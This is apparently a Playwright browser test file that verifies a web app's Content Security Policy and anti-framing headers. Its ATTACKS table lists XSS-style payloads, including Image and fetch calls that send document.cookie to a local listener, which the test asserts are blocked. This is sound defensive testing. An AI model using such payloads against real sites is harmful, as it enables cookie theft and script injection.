"""The policy holds in a browser, and a page works under it."""

from __future__ import annotations

import contextlib
import socket
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from threading import Thread

import pytest
from playwright.sync_api import Browser, Page, Route, expect

from tests.browser.fixtures import Visit

pytestmark = pytest.mark.browser

ATTACKS = {
    "script-src-elem": "document.head.append(Object.assign(document.createElement('script'), { textContent: 'window.stolen = 1' }))",
    "script-src-attr": "document.body.insertAdjacentHTML('beforeend', '<img src=data:, onerror=\"window.stolen = 1\">')",
    "script-src": "(() => { try { Function('window.stolen = 1')() } catch {} })()",
    "img-src": "new Image().src = 'http://127.0.0.1:PORT/' + document.cookie",
    "connect-src": "fetch('http://127.0.0.1:PORT/' + document.cookie).catch(() => {})",
    "frame-src": "document.body.append(Object.assign(document.createElement('iframe'), { src: 'http://127.0.0.1:PORT/' }))",
    "base-uri": "document.head.append(Object.assign(document.createElement('base'), { href: 'http://127.0.0.1:PORT/' }))",
    "object-src": "document.body.append(Object.assign(document.createElement('object'), { data: 'http://127.0.0.1:PORT/' }))",
}


def came(elsewhere: socket.socket) -> bytes:
    """What was sent there. Chromium may connect for a frame before it looks at the policy, and sends nothing then."""
    elsewhere.setblocking(False)
    sent = b""
    with contextlib.suppress(BlockingIOError):
        while True:
            connection, _ = elsewhere.accept()
            connection.setblocking(False)
            with connection, contextlib.suppress(BlockingIOError):
                sent += connection.recv(4096)
    return sent


def run(page: Page, attack: str) -> str:
    """What the browser refuses of a script that got into the page; nothing, if it does not within five seconds.

    It runs in a timer: the driver's own code may evaluate text."""
    heard = "addEventListener('securitypolicyviolation', event => done(event.effectiveDirective), { once: true })"
    later = f"setTimeout(done, 5000, 'nothing'); setTimeout(() => {{ {attack} }})"
    return str(page.evaluate(f"() => new Promise(done => {{ {heard}; {later} }})"))


def test_a_page_works_and_what_gets_into_it_can_do_nothing(visit: Visit) -> None:
    """That labs with charts work under the policy is what all other browser tests say: `visit` fails them if the console says anything."""
    page = visit("/")
    assert page.locator('[data-testid="stBidiComponentRegular"], [data-testid="stBidiComponentIsolated"]').count(), "no widget was tried"
    assert visit.problems == []
    with socket.create_server(("127.0.0.1", 0)) as elsewhere:
        for refused, attack in ATTACKS.items():
            assert run(page, attack.replace("PORT", str(elsewhere.getsockname()[1]))) == refused
        page.wait_for_timeout(200)
        assert came(elsewhere) == b""
    assert page.evaluate("window.stolen") is None
    assert visit.problems, "the console said nothing of it: the other tests would not notice either"
    visit.problems.clear()


class Frames(BaseHTTPRequestHandler):
    """A page elsewhere, of one frame: the address after the `?`. Really served: what a driver makes up is of no network, and from such a
    page Chromium loads nothing of this machine, whatever the policy says."""

    def do_GET(self) -> None:
        self.send_response(200)
        self.send_header("Content-Type", "text/html")
        self.end_headers()
        self.wfile.write(f'<iframe src="{self.path.partition("?")[2]}"></iframe>'.encode())

    def log_message(self, format: str, *args: object) -> None:
        pass


@pytest.fixture
def elsewhere() -> Iterator[str]:
    with ThreadingHTTPServer(("127.0.0.1", 0), Frames) as server:
        Thread(target=server.serve_forever).start()
        yield f"http://127.0.0.1:{server.server_port}"
        server.shutdown()


@pytest.mark.parametrize(
    ("without", "said"),
    [
        ((), "frame-ancestors 'none'"),
        (("x-frame-options",), "frame-ancestors 'none'"),
        (("content-security-policy",), "it set 'X-Frame-Options' to 'deny'"),
        (("x-frame-options", "content-security-policy"), ""),
    ],
)
def test_no_page_elsewhere_can_frame_it(chromium: Browser, server: str, elsewhere: str, without: tuple[str, ...], said: str) -> None:
    """Each of two headers refuses it by itself, and without both it is framed: so the test can fail."""

    def answer(route: Route) -> None:
        found = route.fetch()
        route.fulfill(response=found, headers={name: value for name, value in found.headers.items() if name not in without})

    context = chromium.new_context()
    page = context.new_page()
    if without:
        page.route(f"{server}/", answer)
    expect.set_options(timeout=60_000)
    if said:
        with page.expect_console_message(lambda message: said in message.text):
            page.goto(f"{elsewhere}/?{server}/")
        expect(page.frame_locator("iframe").locator("#root")).not_to_be_attached()
    else:
        page.goto(f"{elsewhere}/?{server}/")
        expect(page.frame_locator("iframe").locator("#root")).to_be_attached()
    context.close()
